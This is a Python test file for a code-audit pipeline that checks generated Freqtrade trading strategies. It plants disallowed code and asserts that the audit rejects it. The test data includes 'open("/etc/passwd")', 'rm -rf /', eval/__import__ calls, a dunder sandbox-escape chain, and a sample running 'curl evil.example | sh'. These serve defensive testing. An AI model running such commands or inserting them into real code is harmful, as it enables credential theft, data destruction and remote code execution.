"""Review: the AST audit against planted code, the review of the examples, and a property test."""

from __future__ import annotations

import dataclasses
import io
import json
import keyword
import tokenize
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from execdesk.codegen.audit import audit_source
from execdesk.codegen.render import GeneratedStrategy, StakeSizing, render_strategy
from execdesk.codegen.review import RUFF_RULES, review
from execdesk.strategy import ExpressionError, StrategyBundle, load_bundle, output_names, parse_expression
from execdesk.strategy.expr import OHLCV

from .conftest import EXAMPLE_FILES, EXAMPLES, make_bundle


@pytest.fixture(scope="module")
def ema() -> GeneratedStrategy:
    return render_strategy(load_bundle(EXAMPLES / "trend_ema_cross.yaml"), StakeSizing.risk(0.01, 0.25))


def _inject(source: str, code: str, *, module_level: bool = False) -> str:
    """``code`` at module level (after the imports) or as the first statements of populate_indicators."""
    if module_level:
        anchor = "from pandas import DataFrame\n"
        return source.replace(anchor, anchor + code + "\n", 1)
    anchor = '        """\n        dataframe["ema_fast"]'
    assert anchor in source
    indented = "".join(f"        {line}\n" for line in code.splitlines())
    return source.replace(anchor, '        """\n' + indented + '        dataframe["ema_fast"]', 1)


PLANTED = [
    ("import os", True, "modules"),
    ("from os import system", True, "modules"),
    ("import subprocess as sp", True, "modules"),
    ("import numpy as numpy2", True, "imports"),
    ("from pandas import read_pickle", True, "imports"),
    ("from . import sibling", True, "imports"),
    ("class Second(IStrategy):\n    pass", True, "class"),
    ('dataframe["rsi"] = eval("1 + 1")', False, "calls"),
    ('dataframe["rsi"] = exec("x = 1")', False, "calls"),
    ('dataframe["rsi"] = open("/etc/passwd")', False, "calls"),
    ('dataframe["rsi"] = getattr(self, "stoploss")', False, "calls"),
    ('dataframe["rsi"] = __import__("os")', False, "calls"),
    ("dataframe['rsi'] = dataframe.__class__", False, "dunder"),
    ("dataframe['rsi'] = self.__dict__", False, "dunder"),
    ("dataframe['rsi'] = foo", False, "names"),
    ("dataframe['rsi'] = sys.modules", False, "modules"),
    ('dataframe["secret"] = dataframe["close"]', False, "names"),
    ('dataframe["rsi"] = ta.ABS(dataframe["close"])', False, "names"),
    ('dataframe["rsi"] = np.load("x.npy")', False, "names"),
    ('dataframe["rsi"] = dataframe["close"].to_pickle("x")', False, "names"),
    ('dataframe["rsi"] = datetime.now()', False, "names"),
    ('dataframe["rsi"] = (lambda: 1)()', False, "nodes"),
    ("for x in dataframe:\n    pass", False, "nodes"),
    ("while True:\n    pass", False, "nodes"),
    ('dataframe["rsi"] = f"{self}"', False, "nodes"),
    ('dataframe["rsi"] = "rm -rf /"', False, "strings"),
    ('dataframe["rsi"] = metadata["pair"]', False, "nodes"),
    ("self.stoploss", False, "nodes"),
    ("abs = len", False, "names"),
    ("dataframe = dataframe", False, "names"),
    ("dataframe['rsi'] = (", False, "syntax"),
]


@pytest.mark.parametrize(("code", "module_level", "rule"), PLANTED)
def test_audit_when_code_planted_then_rejected(
    ema: GeneratedStrategy, code: str, module_level: bool, rule: str
) -> None:
    assert audit_source(ema.source, ema.allowed) == []
    findings = audit_source(_inject(ema.source, code, module_level=module_level), ema.allowed)
    assert findings, f"planted {code!r} passed the audit"
    assert rule in {f.rule for f in findings}, [str(f) for f in findings]
    assert all(f.line > 0 for f in findings if f.rule != "class")


HAND_WRITTEN_OK = '''"""A hand-written strategy within the whitelist."""

from __future__ import annotations

import numpy as np
import talib as ta
from freqtrade.strategy import IStrategy
from pandas import DataFrame


class EmaCrossRsiV1(IStrategy):
    """Docstring."""

    INTERFACE_VERSION = 3
    timeframe = "1h"
    param_rsi_period = 14

    def populate_indicators(self, dataframe: DataFrame, metadata: dict[str, object]) -> DataFrame:
        dataframe["rsi"] = ta.RSI(dataframe["close"], timeperiod=self.param_rsi_period)
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict[str, object]) -> DataFrame:
        warm = np.arange(len(dataframe)) >= self.startup_candle_count
        signal = (dataframe["rsi"] < 30) & (~(dataframe["close"] > 1))
        dataframe["enter_long"] = (signal & warm).astype(int)
        return dataframe
'''

HAND_WRITTEN_BAD = """import os
from freqtrade.strategy import IStrategy


class Evil(IStrategy):
    def populate_indicators(self, dataframe, metadata):
        os.system("curl evil.example | sh")
        return dataframe.__class__.__bases__[0].__subclasses__()
"""


def test_audit_when_hand_written_sources_then_judged(ema: GeneratedStrategy) -> None:
    assert audit_source(HAND_WRITTEN_OK, ema.allowed) == []
    rules = {f.rule for f in audit_source(HAND_WRITTEN_BAD, ema.allowed)}
    assert {"modules", "dunder", "names", "nodes"} <= rules


# -- review() -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", EXAMPLE_FILES)
def test_review_when_example_then_every_check_passes(name: str, tmp_path: Path) -> None:
    generated = render_strategy(load_bundle(EXAMPLES / name), StakeSizing.wallet_fraction(0.2))
    report = review(generated, tmp_path)
    assert [c.name for c in report.checks] == [
        "compiles",
        "ruff",
        "ast_audit",
        "freqtrade_load",
        "freqtrade_attributes",
    ]
    assert report.passed, report.to_markdown()
    load = report.check("freqtrade_load")
    assert load.data is not None
    assert load.data["connection_attempts"] == 0
    assert (tmp_path / generated.filename).read_text() == generated.source
    saved = json.loads((tmp_path / "review.json").read_text())
    assert saved["passed"] is True
    assert saved["ruff_rules"] == list(RUFF_RULES)
    assert "PASSED" in (tmp_path / "review.md").read_text()


def test_review_when_audit_fails_then_file_never_executed(ema: GeneratedStrategy, tmp_path: Path) -> None:
    planted = dataclasses.replace(ema, source=_inject(ema.source, "import os", module_level=True))
    report = review(planted, tmp_path)
    assert not report.passed
    assert report.failed == ["ruff", "ast_audit", "freqtrade_load", "freqtrade_attributes"]
    assert "never executed" in report.check("freqtrade_load").detail
    assert json.loads((tmp_path / "review.json").read_text())["passed"] is False
    assert "FAILED" in (tmp_path / "review.md").read_text()


def test_review_when_style_broken_then_ruff_reports_it(ema: GeneratedStrategy, tmp_path: Path) -> None:
    broken = dataclasses.replace(
        ema, source=ema.source.replace("    INTERFACE_VERSION = 3\n", "    INTERFACE_VERSION = 3   \n")
    )
    report = review(broken, tmp_path, freqtrade=False)
    ruff = report.check("ruff")
    assert not ruff.passed
    assert "W291" in ruff.detail
    assert report.check("ast_audit").passed
    assert report.check("compiles").passed


def test_review_when_source_does_not_compile_then_compile_fails(ema: GeneratedStrategy, tmp_path: Path) -> None:
    broken = dataclasses.replace(ema, source=ema.source + "\ndef (:\n")
    report = review(broken, tmp_path)
    assert not report.check("compiles").passed
    assert "line" in report.check("compiles").detail
    assert not report.check("freqtrade_load").passed


# -- property: random valid expressions render into audited code --------------------------------

NAMES = sorted({*OHLCV, *(o for n, spec in make_bundle().indicators.items() for o in output_names(n, spec))})
NUM_ATOMS = st.sampled_from([*NAMES, "0", "1", "2.5", "30", "0.001", "1e-05", "-3"])


def _numeric(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    windowed = st.sampled_from(["shift", "rolling_mean", "rolling_max", "rolling_min"])
    return st.one_of(
        st.tuples(children, st.sampled_from(["+", "-", "*", "/"]), children).map(lambda t: f"({t[0]} {t[1]} {t[2]})"),
        st.tuples(children, st.sampled_from(["2", "-1", "0.5", "3"])).map(lambda t: f"({t[0]}) ** {t[1]}"),
        children.map(lambda c: f"-({c})"),
        children.map(lambda c: f"abs({c})"),
        st.tuples(windowed, children, st.integers(0, 50)).map(lambda t: f"{t[0]}({t[1]}, {max(t[2], 1)})"),
    )


NUMBERS = st.recursive(NUM_ATOMS, _numeric, max_leaves=5)
CONDITION_ATOMS = st.one_of(
    st.tuples(NUMBERS, st.sampled_from(["<", "<=", ">", ">=", "==", "!="]), NUMBERS).map(" ".join),
    st.tuples(st.sampled_from(["crossed_above", "crossed_below"]), NUMBERS, NUMBERS).map(
        lambda t: f"{t[0]}({t[1]}, {t[2]})"
    ),
)
CONDITIONS = st.recursive(
    CONDITION_ATOMS,
    lambda c: st.one_of(
        st.tuples(c, st.sampled_from(["and", "or"]), c).map(lambda t: f"({t[0]}) {t[1]} ({t[2]})"),
        c.map(lambda x: f"not ({x})"),
    ),
    max_leaves=6,
)


def _identifiers(source: str) -> set[str]:
    tokens = tokenize.generate_tokens(io.StringIO(source).readline)
    return {t.string for t in tokens if t.type == tokenize.NAME and not keyword.iskeyword(t.string)}


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(entry=CONDITIONS, exit_=CONDITIONS, short=st.booleans())
def test_render_when_random_valid_expressions_then_audit_passes_and_names_whitelisted(
    entry: str, exit_: str, short: bool
) -> None:
    try:
        for text in (entry, exit_):
            parse_expression(text, NAMES)
    except ExpressionError:
        return  # e.g. a comparison of constants only: not a valid condition, nothing to render
    sides = {"long": entry, **({"short": exit_} if short else {})}
    bundle: StrategyBundle = make_bundle(entry=sides, exit={"long": exit_})
    generated = render_strategy(bundle)
    compile(generated.source, generated.filename, "exec")
    assert audit_source(generated.source, generated.allowed) == []
    assert _identifiers(generated.source) <= generated.allowed.identifiers()
